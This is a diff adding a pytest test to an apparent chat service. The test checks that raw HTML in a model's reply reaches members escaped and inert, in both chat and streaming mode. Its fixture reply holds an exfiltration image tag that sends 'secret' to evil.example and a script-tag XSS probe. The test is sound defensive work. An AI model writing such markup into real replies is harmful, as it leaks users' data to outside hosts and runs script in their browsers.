@@ -20,6 +20,7 @@ from typing import Any
 import pytest
 from fakes.openai_server import Reply, ScriptedOpenAIServer
 from fastapi.testclient import TestClient
+from markup import html_markup
 from pgdb import temporary_database
 
 from citewall.boundary.prose import prose_only
@@ -122,6 +123,38 @@ def test_a_streamed_reply_with_bad_text_is_answered_and_stored_clean(
     assert tokens == final["answer"]
     messages = stored_turn(rig, final["conversation_id"])["messages"]
     assert messages[1]["content"] == stored
+
+
+#: A reply that writes a live link and an exfiltration image as raw HTML.
+HTML_REPLY = (
+    'Void it <a href="https://evil.example/x">here</a> [1]. '
+    "<img src=https://evil.example/p.png?q=secret><!-- x --></p><script>alert(1)</script>"
+)
+
+
+@pytest.mark.parametrize("mode", ["chat", "stream"])
+def test_raw_html_in_a_reply_reaches_members_inert(
+    rig: Rig, llm: ScriptedOpenAIServer, mode: str
+) -> None:
+    if mode == "chat":
+        llm.enqueue(Reply(text=HTML_REPLY))
+        answer = rig.chat(QUESTION).json()
+    else:
+        llm.enqueue(Reply(chunks=list(HTML_REPLY)))  # a tag split over many deltas
+        events = sse_events(rig.stream(QUESTION).text)
+        assert events[-1][0] == "final", events[-1]
+        answer = events[-1][1]
+        tokens = "".join(data["delta"] for name, data in events if name == "token")
+        assert tokens == answer["answer"]
+    history = rig.client.get(
+        f"/api/v1/conversations/{answer['conversation_id']}", headers=rig.auth()
+    ).json()
+    for text in (answer["answer"], history["messages"][1]["content"]):
+        assert html_markup(text) == [], text
+        assert text == prose_only(HTML_REPLY)
+        assert text.startswith('Void it &lt;a href="https://evil.example/x">here&lt;/a>.')
+    # Admins see the stored text as the model wrote it.
+    assert stored_turn(rig, answer["conversation_id"])["messages"][1]["content"] == HTML_REPLY
 
 
 def test_invisible_characters_a_member_types_are_not_kept(
